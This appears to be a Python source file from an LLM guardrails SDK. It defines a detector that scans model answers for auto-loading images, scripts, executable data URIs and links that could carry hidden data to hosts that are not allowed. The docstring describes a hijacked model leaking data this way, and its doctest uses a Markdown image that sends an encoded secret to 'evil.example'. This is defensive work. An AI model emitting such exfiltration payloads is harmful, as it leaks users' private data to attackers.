"""Find what carries data out of an answer: images and scripts that load by themselves, and links with a payload."""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Iterable, Iterator
from typing import Literal

from llmops_sdk._util._public import public
from llmops_sdk.errors import ConfigError
from llmops_sdk.guardrails._protocol import Detection, Finding, GuardContext
from llmops_sdk.guardrails.detectors._mapped import Mapped, digest, merged, plain
from llmops_sdk.guardrails.detectors.links._url_scan import Place, Scan, scan
from llmops_sdk.guardrails.detectors.links._urls import (
    MAX_URL,
    ascii_domains,
    bits_in,
    host_of,
    is_allowed,
    registrable,
)

__all__ = ["ExfiltrationDetector"]

_ONE, _TOGETHER = 96, 136
"""The bits that make one link a payload, and those of all smaller links to one host."""

_LAST_SPACE = re.compile(r"[ \t\n](?=[^ \t\n]*\Z)")
_REASONS = {
    "IMAGE": "loads from a host that is not allowed",
    "SCRIPT": "script",
    "DATA_URI": "data URI that can run",
    "LINK": "link to a host that is not allowed",
}


@public("llmops_sdk.guardrails.detectors")
class ExfiltrationDetector:
    """Finds links and images through which a hijacked model sends data to a stranger's server.

    What loads or runs by itself is always found unless its host is allowed: images of Markdown, also by reference;
    tags of HTML that load; `url()` of CSS; scripts; `javascript:` and `data:` URIs that can run. A link that a person
    must click is found if its path, query, fragment, user or subdomain may carry at least 12 bytes of hidden data, or
    if smaller parts of links to one host carry 17 bytes in all.

    Args:
        allow_domains: Hosts to which an answer may link, with all below them, as in "example.org".
        links: "payload" finds links with hidden data, "all" finds each link to a host that is not allowed.

    Raises:
        ConfigError: An argument is not one of these.

    Example:
        >>> from llmops_sdk.guardrails import GuardContext
        >>> from llmops_sdk.guardrails.detectors.links._exfiltration import ExfiltrationDetector
        >>> answer = "Done. ![](https://evil.example/?q=c2VjcmV0)"
        >>> ExfiltrationDetector().detect(answer, GuardContext(rail="output")).findings
        (Finding(kind='IMAGE', start=6, end=43, score=None),)
    """

    name = "exfiltration"

    def __init__(self, allow_domains: Iterable[str] = (), links: Literal["payload", "all"] = "payload") -> None:
        if links not in ("payload", "all"):
            raise ConfigError(f'links={links!r}: use "payload" or "all"', key="links", value=links)
        self._domains = ascii_domains(allow_domains)
        self._links = links
        self.version = f"1:{links}:{digest(sorted(self._domains))}"

    def detect(self, text: str, context: GuardContext) -> Detection:  # noqa: ARG002 - all rails alike
        """Return the constructs and URLs that lead to hosts that are not allowed."""
        if not _may_link(text):
            return Detection()
        findings: list[Finding] = []
        for view in _views(text):
            found, _ = self._find(scan(view.text, is_finished=True))
            findings += [Finding(one.kind, *view.original(one.start, one.end)) for one in found]
        result = merged(findings)
        if not result:
            return Detection()
        reasons = sorted({_REASONS[one.kind] for one in result})
        return Detection(found=True, findings=result, reason=", ".join(reasons))

    def settled(self, text: str) -> int:
        """Return the length of the beginning of an unfinished text that the rest cannot affect.

        It is held from the first small piece of a payload on, since a later link may complete it.
        """
        limit = len(text)
        views: list[tuple[Mapped, list[tuple[int, int]]]] = []
        for view in _views(text):
            found = scan(view.text)
            leading, small = self._find(found)
            hold = min((found.hold, *(one.start for one in small)))
            if hold < len(view.text):
                limit = min(limit, view.original(hold, hold + 1)[0])
            views.append((view, _joined([*found.spans, *((one.start, one.end) for one in leading)])))
        while limit:
            limit = _after_space(text, limit)
            lowest = min((_before_span(view, spans, limit) for view, spans in views), default=limit)
            if lowest == limit:
                break
            limit = lowest
        return limit

    def _find(self, found: Scan) -> tuple[list[Place], list[Place]]:
        """Return the places to act on, and the links with a part of a payload that is too small alone.

        Links whose parts are a payload together are in both.
        """
        leading: list[Place] = []
        small: dict[str, dict[str, tuple[int, list[Place]]]] = {}
        known: dict[str, tuple[str, int]] = {}
        for place in found.places:
            if not place.url:
                if place.kind in {"SCRIPT", "DATA_URI"}:
                    leading.append(place)
                continue
            judged = known.get(place.url)
            if judged is None:
                judged = known[place.url] = self._judge(place.url)
            owner, bits = judged
            if not owner or (bits < 0 and not place.is_odd):
                continue
            is_long = place.end - place.start > MAX_URL or (place.is_odd and place.url.count("://") > 4)
            if place.kind != "LINK" or self._links == "all" or is_long or bits >= _ONE:
                leading.append(place)
            elif bits > 0:
                same = small.setdefault(owner, {})
                same.setdefault(place.url, (bits, []))[1].append(place)
        parts: list[Place] = []
        for same in small.values():
            places = [place for _, found_places in same.values() for place in found_places]
            parts += places
            if sum(bits for bits, _ in same.values()) >= _TOGETHER:
                leading += places
        return leading, parts

    def _judge(self, url: str) -> tuple[str, int]:
        """Return the owner of a URL's host, or "", and the bits that it may carry: -1 if the host is allowed."""
        host = host_of(url)
        if host is None:
            return "", 0
        if is_allowed(host, self._domains):
            return host.name, -1
        return registrable(host.name), bits_in(host)


def _may_link(text: str) -> bool:
    return any(sign in text for sign in ":/\\<&\uff1a\uff0f\uff1c") or "www" in text.lower()


def _views(text: str) -> Iterator[Mapped]:
    """Yield the text as written, and without disguises."""
    yield Mapped(text)
    if "&" in text or not text.isascii():
        view = plain(text)
        if view.is_changed:
            yield view


def _joined(spans: list[tuple[int, int]]) -> list[tuple[int, int]]:
    result: list[tuple[int, int]] = []
    for start, end in sorted(spans):
        if result and start < result[-1][1]:
            result[-1] = (result[-1][0], max(end, result[-1][1]))
        else:
            result.append((start, end))
    return result


def _after_space(text: str, limit: int) -> int:
    return max(text.rfind(space, 0, limit) for space in " \t\n") + 1


def _before_span(view: Mapped, spans: list[tuple[int, int]], limit: int) -> int:
    """Return the start of the construct that a cut would divide, or the cut."""
    at = bisect_right(spans, limit, key=lambda one: view.original(one[0], one[0] + 1)[0] + 1) - 1
    if at >= 0:
        start, end = spans[at]
        first, last = view.original(start, end)
        if first < limit < last:
            return first
    return limit
